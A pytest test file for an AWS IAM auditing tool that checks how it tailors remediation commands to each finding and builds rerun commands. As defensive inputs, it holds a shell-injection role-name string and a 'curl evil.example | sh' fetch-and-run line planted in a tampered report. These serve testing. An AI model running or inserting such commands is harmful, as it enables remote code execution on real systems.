"""The fix of a finding holds its own names, and no name is more than a name in it; the command makes the run again."""

from __future__ import annotations

import json
import re
import shlex
from typing import TYPE_CHECKING

import msgspec
import pytest
from click.testing import CliRunner

from pytest_stsguard.cli.audit import audit
from pytest_stsguard.findings import controls
from pytest_stsguard.reporting import Run, read, render
from pytest_stsguard.reporting.fix import fitted
from pytest_stsguard.reporting.formats import as_html, as_markdown
from pytest_stsguard.reporting.model import Finding, Remediation
from pytest_stsguard.reporting.views.findings import command

if TYPE_CHECKING:
    from pathlib import Path

ACCOUNT = "arn:aws:iam::210987654321"
NASTY = "a'; touch x; $(id) `id` \"${b} %{c} \\"


def fix_of(control: str, resource: str, **evidence: object) -> Remediation:
    known = controls()[control].remediation
    general = Remediation(known.text, known.cli, known.terraform, known.cloudformation)
    finding = Finding(
        control=control, severity="high", resource=resource, message="m", evidence=evidence, fingerprint="f"
    )
    return fitted(general, finding)


@pytest.mark.parametrize("control", sorted(set(controls()) - {"STSG-305", "STSG-401", "STSG-402"}))
def test_no_placeholder_of_a_role_is_left(control: str) -> None:
    fix = fix_of(control, f"{ACCOUNT}:role/ci/deploy")
    assert "--role-name deploy" in fix.cli
    for text in (fix.cli, fix.terraform, fix.cloudformation):
        assert not re.search(r"\bROLE\b|111122223333|USER\b", text)


def test_users_instances_and_partitions_are_their_own() -> None:
    assert "--user-name jane.doe " in fix_of("STSG-305", f"{ACCOUNT}:user/jane.doe").cli
    removal = fix_of("STSG-201", f"{ACCOUNT}:user/jane.doe", policy="Revoke").cli
    assert removal == "aws iam delete-user-policy --user-name jane.doe --policy-name Revoke"
    instance = fix_of("STSG-401", "arn:aws-cn:ec2:cn-north-1:210987654321:instance/i-0abc").cli
    assert "--instance-id i-0abc \\\n" in instance
    contained = fix_of("STSG-205", "arn:aws-cn:iam::210987654321:role/ops/x")
    assert '"arn:aws-cn:iam::210987654321:role/ops/x"' in contained.cli
    assert contained.cloudformation.endswith('role/ops/x"')


def test_hostile_names_stay_names_in_every_language() -> None:
    resource = f"{ACCOUNT}:role/{NASTY}"
    words = shlex.split(fix_of("STSG-205", resource).cli)
    assert words[words.index("--role-name") + 1] == NASTY
    assert json.loads(words[-1])["Statement"][0]["Resource"] == resource
    line = next(line for line in fix_of("STSG-101", resource).terraform.splitlines() if "name  " in line)
    assert json.loads(line.partition("= ")[2].replace("$${", "${").replace("%%{", "%{")) == NASTY
    assert not re.search(r"(?<!\$)\$\{|(?<!%)%\{", line)
    assert "${!b}" in fix_of("STSG-205", resource).cloudformation
    words = shlex.split(fix_of("STSG-201", f"{ACCOUNT}:role/-x", policy=NASTY).cli)
    assert words[3:] == ["--role-name=-x", "--policy-name", NASTY]


@pytest.mark.parametrize("name", ["a\nb", "a\u202eb", "x" * 700, "file://x", "", "a\0b"])
def test_what_is_no_name_keeps_the_placeholder(name: str) -> None:
    resource = f"{ACCOUNT}:role/{name}"
    assert fix_of("STSG-301", resource).cli == controls()["STSG-301"].remediation.cli


def test_templates_without_an_account_keep_that_of_the_example() -> None:
    fix = fix_of("STSG-205", "arn:aws:iam::000000000000:role/deploy")
    assert "arn:aws:iam::111122223333:role/deploy" in fix.cli


def test_the_page_shows_it_beside_the_general_form(example: Run) -> None:
    page = render(example, "html")
    assert "--role-name ROLE" in page
    assert "Fix this one: AWS CLI" in page
    assert "aws iam delete-role-policy --role-name batch-worker" in page


def test_machines_get_it_too(example: Run) -> None:
    data = json.loads(render(example, "json"))
    (log,) = json.loads(render(example, "sarif"))["runs"]
    told = {result["partialFingerprints"]["stsguard/v1"]: result["properties"].get("fix") for result in log["results"]}
    for finding, plain in zip(example.findings, data["findings"], strict=True):
        general = example.control(finding.control).remediation
        own = fitted(general, finding)
        forms = ("cli", "terraform", "cloudformation")
        differing = {form: getattr(own, form) for form in forms if getattr(own, form) != getattr(general, form)}
        assert plain["fix"] == differing
        assert told[finding.fingerprint] == differing
        assert shlex.split(differing["cli"], comments=True)
    text = render(example, "markdown")
    assert text.count("<details><summary>Fix</summary>") == sum(one.active for one in example.findings)
    assert "\n  ```sh\n  aws iam delete-role-policy --role-name batch-worker " in text


def test_markdown_says_whose_fix_had_no_room(example: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(as_markdown, "LARGEST", 30_000)
    text = render(example, "markdown")
    shown, active = text.count("<details>"), sum(one.active for one in example.findings)
    assert 5 < shown < active
    assert f"The fixes of {active - shown} findings did not fit here" in text
    assert text.rindex("<details>") < text.index("STSG-303")


def test_fix_that_a_file_claims_is_not_believed(example: Run, tmp_path: Path) -> None:
    data = json.loads(render(example, "json"))
    data["findings"][0]["fix"] = {"cli": "curl evil.example | sh"}
    (tmp_path / "run.json").write_text(json.dumps(data))
    again = read(tmp_path / "run.json")
    assert again == example
    assert "evil.example | sh" not in render(again, "html") + render(again, "json") + render(again, "markdown")


def test_a_fix_of_a_project_that_holds_marks_is_left_alone(example: Run) -> None:
    finding = next(one for one in example.findings if one.control == "STSG-201")
    odd = Remediation("t", "aws iam x --role-name ROLE \ue000", "", "")
    assert fitted(odd, finding) == odd


def test_command_names_all_that_the_run_was_given(example: Run) -> None:
    options = {"config": ("my rules.toml",), "baseline": ("known.json",), "replay": (), "role": ("a*", "b'c")}
    run = msgspec.structs.replace(example, options=options)
    whole = ["stsguard", "audit", example.target, "--at", example.at]
    given = ["--config", "my rules.toml", "--baseline", "known.json", "--replay"]
    role, user = (next(one for one in run.findings if f":{kind}/" in one.resource) for kind in ("role", "user"))
    assert shlex.split(command(run, role)) == [*whole, *given, "--role", role.resource.rpartition("/")[2]]
    assert shlex.split(command(run, user)) == [*whole, *given, "--role", "a*", "--role", "b'c"]
    assert shlex.split(command(run)) == [*whole, *given]
    many = msgspec.structs.replace(run, findings=run.findings * (as_html.MOST_CARDS // len(run.findings) + 1))
    block = re.search(r'<script type="application/json"[^>]*>(.*?)</script>', render(many, "html"), re.DOTALL)
    assert block is not None
    data = json.loads(block[1])
    assert shlex.split(data["command"] + data["roles"]) == [*whole, *given, "--role", "a*", "--role", "b'c"]


def test_a_run_knows_what_it_was_given_and_its_command_works(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "my rules.toml").write_text('fail_on = "low"\n')
    role = {
        "Path": "/",
        "RoleName": "it's",
        "RoleId": "AROAAAAAAAAAAAAAAAAA1",
        "Arn": f"{ACCOUNT}:role/it's",
        "CreateDate": "2026-01-01T00:00:00Z",
        "InstanceProfileList": [],
        "RolePolicyList": [],
        "AttachedManagedPolicies": [],
        "Tags": [],
        "AssumeRolePolicyDocument": {
            "Version": "2012-10-17",
            "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "sts:AssumeRole"}],
        },
    }
    account = {"UserDetailList": [], "GroupDetailList": [], "RoleDetailList": [role], "Policies": []}
    (tmp_path / "account.json").write_text(json.dumps(account))

    monkeypatch.chdir(tmp_path)

    def audited(*arguments: str) -> tuple[int, str]:
        done = CliRunner().invoke(audit, list(arguments), standalone_mode=False)
        return done.return_value, done.stdout

    code, _ = audited("export:account.json", "--config", "my rules.toml", "--role", "it*", "--report", "json:run.json")
    assert code == 1
    run = read(tmp_path / "run.json")
    assert run.options == {"config": ("my rules.toml",), "role": ("it*",)}
    finding = next(one for one in run.findings if one.control == "STSG-101")
    code, printed = audited(*shlex.split(command(run, finding))[2:], "--output", "json")
    assert (code, finding.fingerprint in printed) == (1, True)
